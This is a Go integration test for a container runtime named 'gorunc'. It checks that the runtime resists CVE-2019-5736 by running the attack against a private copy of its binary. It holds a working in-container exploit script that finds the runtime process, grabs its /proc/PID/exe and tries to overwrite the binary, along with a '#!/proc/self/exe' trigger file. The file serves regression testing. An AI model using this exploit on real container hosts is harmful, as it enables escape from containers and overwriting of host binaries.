package integration

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
)

// attackScript is CVE-2019-5736 from inside the container: find a process
// that runs the runtime's binary, keep an fd of its /proc/PID/exe, and once
// the binary is no longer busy (ETXTBSY) reopen that fd for writing.
const attackScript = `cd /run/x
while :; do
  for d in /proc/[0-9]*; do
    if grep -q evil $d/cmdline 2>/dev/null; then pid=${d#/proc/}; break 2; fi
  done
done
if ! exec 3</proc/$pid/exe; then echo open-failed > result; exit; fi
cat fifo >/dev/null &
cat stderr >/dev/null &
i=0
while [ $i -lt 300 ]; do
  if (echo pwned >/proc/self/fd/3) 2>/dev/null; then echo overwritten > result; exit; fi
  i=$((i+1)); usleep 10000
done
echo still-busy > result
`

// TestExecProcSelfExeAttack: the container makes the runtime execute its
// own binary inside the container (an executable whose interpreter is
// "#!/proc/self/exe", exactly the CVE's trick: exec-init's /proc/self/exe
// is whatever it runs from). That gorunc process blocks opening a fifo as
// its --log, and either binary on writing to its stderr, a full pipe; the
// attacker grabs its /proc/PID/exe, lets it go and, once it exits, tries
// to write through it. Run against a private copy of the binary, so a
// vulnerable build damages nothing but the copy. When gorunc-init sits
// beside gorunc (make build), it is copied too: exec-init then runs from
// it, and it is the binary the container gets to execute and attack.
func TestExecProcSelfExeAttack(t *testing.T) {
	e := newEnv(t, "sleep", "100")
	real := e.bin
	var orig map[string][]byte
	e.bin, orig = copyRuntime(t, real, t.TempDir())
	// Registered after newEnv's: runs first, so the cleanup uses a
	// binary that works even if the attack succeeded.
	t.Cleanup(func() { e.bin = real })
	x := t.TempDir()
	os.Chmod(x, 0o755)
	if err := syscall.Mkfifo(filepath.Join(x, "fifo"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(x, "evil"), []byte("#!/proc/self/exe --log=/run/x/fifo\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(x, "attack.sh"), []byte(attackScript), 0o755); err != nil {
		t.Fatal(err)
	}
	// evil's stderr is a full pipe (a fifo, filled): whichever binary it
	// runs blocks on its first message until the attacker holds its
	// /proc/PID/exe and drains the pipe. gorunc-init has nothing else
	// that waits: it says it will not run and exits.
	full := fullPipe(t, filepath.Join(x, "stderr"))
	e.spec.Mounts = append(e.spec.Mounts, specs.Mount{Destination: "/run/x", Type: "bind", Source: x, Options: []string{"rbind"}})
	e.writeSpec()
	e.must("run", "-d", "--bundle", e.bundle, "cve")
	e.waitStatus("cve", "running")
	e.must("exec", "-d", "cve", "sh", "/run/x/attack.sh")
	// exec-init itself executes evil, so /proc/self/exe is its binary.
	cmd := exec.Command(e.bin, "--root", e.root, "exec", "-d", "cve", "/run/x/evil")
	cmd.Stderr = full
	execEvil(t, cmd)

	var result string
	// The script ends by itself (300 tries); the deadline only stops a
	// hung attack, with room for a loaded host (it took over 15 s once).
	for deadline := time.Now().Add(90 * time.Second); result == "" && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		data, _ := os.ReadFile(filepath.Join(x, "result"))
		result = strings.TrimSpace(string(data))
	}
	attackFailed(t, orig, result)
}

// initsBeside lists the gorunc-init binaries installed beside bin (make
// build puts this build's beside bin/gorunc).
func initsBeside(bin string) []string {
	inits, _ := filepath.Glob(filepath.Join(filepath.Dir(bin), "gorunc-init-*"))
	return inits
}

// copyRuntime copies bin, and the gorunc-init beside it if any, into dir
// under their own names: a private runtime an attack may damage. It
// returns the copy of bin and each copy's original bytes.
func copyRuntime(t *testing.T, bin, dir string) (string, map[string][]byte) {
	t.Helper()
	orig := map[string][]byte{}
	for _, src := range append(initsBeside(bin), bin) {
		data, err := os.ReadFile(src)
		if err != nil {
			t.Fatal(err)
		}
		dst := filepath.Join(dir, filepath.Base(src))
		if err := os.WriteFile(dst, data, 0o755); err != nil {
			t.Fatal(err)
		}
		orig[dst] = data
	}
	return filepath.Join(dir, filepath.Base(bin)), orig
}

// execEvil runs `exec -d ... evil`, bounded: its stderr is the full pipe,
// so a message from the CLI itself (an error) would block it for good.
func execEvil(t *testing.T, cmd *exec.Cmd) {
	t.Helper()
	var out strings.Builder
	cmd.Stdout = &out
	s := startCmd(t, cmd)
	exited, err := s.within(30 * time.Second)
	if !exited {
		s.kill(false)
		t.Fatal("exec evil: no answer within 30 s (blocked on its full stderr: it failed)")
	}
	if err != nil {
		t.Fatalf("exec evil: %v %s", err, out.String())
	}
}

// attackFailed fails the test unless every binary in orig still holds its
// bytes and the attack script (result) ran to its end.
func attackFailed(t *testing.T, orig map[string][]byte, result string) {
	t.Helper()
	for b, data := range orig {
		now, err := os.ReadFile(b)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(now, data) {
			t.Fatalf("the container overwrote %s through /proc/PID/exe (attacker says %q)", filepath.Base(b), result)
		}
	}
	if result == "" || result == "overwritten" {
		t.Fatalf("attack did not run to its end (result %q)", result)
	}
	t.Logf("attack result: %s; binaries unchanged: %d", result, len(orig))
}

// fullPipe makes a fifo at path and returns it opened read-write with its
// buffer full, in blocking mode: a process given it as stderr blocks on
// its first message until someone reads the fifo.
func fullPipe(t *testing.T, path string) *os.File {
	t.Helper()
	if err := syscall.Mkfifo(path, 0o600); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(path, os.O_RDWR|syscall.O_NONBLOCK, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	for {
		if _, err := syscall.Write(int(f.Fd()), make([]byte, 4096)); err != nil {
			break // EAGAIN: full
		}
	}
	// Blocking again: the flag is the open file's, which the process shares.
	if err := syscall.SetNonblock(int(f.Fd()), false); err != nil {
		t.Fatal(err)
	}
	return f
}
